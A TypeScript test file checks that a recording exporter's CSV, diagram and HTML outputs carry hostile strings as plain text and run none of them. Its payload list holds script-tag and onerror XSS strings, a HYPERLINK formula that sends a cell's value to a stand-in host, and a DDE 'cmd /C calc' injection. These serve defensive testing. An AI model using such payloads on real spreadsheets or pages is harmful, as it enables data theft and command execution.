/** Names and payloads that would break a format, or run in its reader: every export carries them as text. */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { exportRecording, htmlPage, oneScript, Selection } from '../../src/export/index.js';
import { openRecording } from '../../src/recording/index.js';
import { findChromium, launchChromium } from '../browser.js';
import { temporaryFolder } from '../process-view.js';
import { Script } from '../webview/recordings.js';
import { checkDiagrams, checkTraces, text } from './every-format.js';
import { csvReader, pageWithMermaid } from './readers.js';

const hostile = [
  '</script><script>globalThis.broken = true</script>',
  '<img src=x onerror="globalThis.broken = true">',
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  ' =1+1',
  '＝1+1',
  '\t=1',
  'end',
  'participant p0; p0->>p1: %% #quot; `x` $y',
  'Note over p0: "a\nb"\r\nc',
  'nul \u0000 bell \u0007 escape \u001b[31m',
  'half a character \ud83d and another \udc00',
  '产品 🎉 مرحبا \u202e backwards',
  ']]> --> <!-- &amp; &#0;',
  'a,b;"c"\'d\'',
];

function recordingOf(texts: readonly string[]): Buffer {
  const script = new Script();
  script.at(1, 100, {
    type: 'start',
    ppid: 1,
    command: ['node', 'main.js'],
    cwd: '/w',
    runtime: 'node 24.1.0',
    name: texts[0]!,
  });
  texts.forEach((text, i) => {
    const pid = 200 + i;
    script.at(2 + i, 100, { type: 'spawn', child: pid, api: 'fork', command: ['node', text], name: text });
    script.at(30 + i, pid, { type: 'start', ppid: 100, command: ['node', text], cwd: text, runtime: 'node 24.1.0' });
    script.message(`ipc/${pid}`, { ms: 60 + i, pid: 100 }, { ms: 90 + i, pid }, text, [text, text]);
    script.at(120 + i, pid, { type: 'output', stream: 'stdout', text });
    script.at(150 + i, 100, { type: 'wait', wait: i + 1, for: { kind: 'join', child: pid } });
    script.at(180 + i, pid, { type: 'error', name: text, message: text, stack: text });
    script.at(200 + i, 100, { type: 'child-exit', child: pid, code: 1 });
    script.at(230 + i, 100, { type: 'wake', wait: i + 1, outcome: 'done' });
  });
  return Buffer.from(`${script.lines.join('\n')}\n`);
}

const bytes = recordingOf(hostile);
const recording = openRecording(bytes);
const whole = new Selection(recording);
const chromium = findChromium();
const browser = chromium === undefined ? undefined : await launchChromium(chromium);
after(() => browser?.close());
const skip = browser === undefined && 'there is no Chromium here';

test('traces and tables are whole', async () => {
  await checkTraces(bytes);
});

test('no cell of a table is a formula, and what was in it is still there', async () => {
  const readCsv = await csvReader();
  const rows = readCsv(text(exportRecording('csv', recording, whole)));
  for (const value of rows.flatMap((row) => Object.values(row))) {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: a spreadsheet looks past it.
    assert.doesNotMatch(value, /^[\s\u0000]*[=+@＝＋＠]|^[\t\r\n]|^-(?![\d.]+$)/u);
  }
  const sent = rows
    .filter(({ Channel, From }) => Channel?.startsWith('ipc/') && From === rows[0]!.From)
    .map(({ Preview }) => Preview!);
  for (const payload of hostile) {
    if (/[\ud800-\udfff](?<![\ud800-\udbff][\udc00-\udfff])/.test(payload)) continue; // No text file has half a character.
    assert.ok(
      sent.some((cell) => cell === payload || cell === `'${payload}`),
      payload,
    );
  }
});

test('diagrams show all of it and run none of it', { skip }, async () => {
  const page = await pageWithMermaid(browser!);
  await checkDiagrams(bytes, page);
  assert.equal(await page.evaluate(() => 'broken' in globalThis), false);
  await page.close();
});

test('the page opens from a file without a network, shows the recording, and runs nothing of it', {
  skip,
}, async (t) => {
  const page = await browser!.newPage();
  t.after(() => page.close());
  const asked: string[] = [];
  const faults: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('pageerror', (error) => faults.push(error.message));
  page.on('console', (message) => message.type() === 'error' && faults.push(message.text()));
  const parts: string[] = [];
  for await (const part of htmlPage(await pageParts())) parts.push(part);
  const folder = temporaryFolder(t);
  writeFileSync(`${folder}/page.html`, parts.join(''));
  await page.goto(`file://${folder}/page.html`);
  await page
    .getByText(`${hostile.length + 1} processes`, { exact: true })
    .first()
    .waitFor();
  assert.equal(await page.evaluate(() => 'broken' in globalThis), false);
  assert.deepEqual(faults, []);
  assert.deepEqual(
    asked.filter((url) => !/^(file|blob|data):/.test(url)),
    [],
  );
});

async function pageParts() {
  return {
    title: hostile[0]!,
    script: await oneScript('main.js', async (name) => readFileSync(`dist/webview/${name}`, 'utf8')),
    style: readFileSync('dist/webview/main.css', 'utf8'),
    recording: chunked(gzipSync(bytes)),
    sha256: (part: string) => createHash('sha256').update(part).digest('base64'),
    base64: (part: Uint8Array) => Buffer.from(part).toString('base64'),
  };
}

/** In chunks of odd sizes, as a stream gives them. */
async function* chunked(whole: Buffer): AsyncGenerator<Uint8Array> {
  for (let from = 0, size = 1; from < whole.length; from += size++) yield whole.subarray(from, from + size);
}
